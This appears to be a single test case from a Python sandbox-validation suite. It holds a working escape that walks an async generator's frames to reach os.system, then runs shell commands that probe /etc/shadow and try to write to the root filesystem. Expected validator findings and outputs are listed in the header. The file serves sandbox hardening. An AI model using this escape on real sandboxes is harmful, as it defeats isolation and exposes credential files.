# row: B07
# attack: Async-generator frame walk: inside a running async generator, `agen.ag_frame.f_back` is the
#   frame that drove `asend()`; following `f_back` leaves the program's namespace and
#   `f_globals['os']` gives os.system.
# v-on-finding: rule=attribute.denied source=ast text='ag_frame'
# v-on-finding: rule=attribute.denied source=ast text='f_back'
# v-off-status: ok
# v-off-stdout-contains: escaped the program namespace
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B07
# limits: wall_time_s=5
SHELL = (
    "id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B07"
)


async def walker():
    yield agen.ag_frame.f_back


def system_from(frame):
    """os.system from the first frame above ``frame`` whose globals hold os, else via its builtins."""
    caller = frame.f_back
    while caller is not None and "os" not in caller.f_globals:
        caller = caller.f_back
    if caller is None:
        print("no frame above the program: using the module's builtins")
        return frame.f_builtins["__import__"]("os").system
    print(f"escaped the program namespace into the globals of {caller.f_globals.get('__file__')}")
    return caller.f_globals["os"].system


agen = walker()
try:
    agen.asend(None).send(None)
except StopIteration as step:
    module_frame = step.value
try:
    system = system_from(module_frame)
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print("system() reached", flush=True)
    print(f"system() exit status {system(SHELL)}")
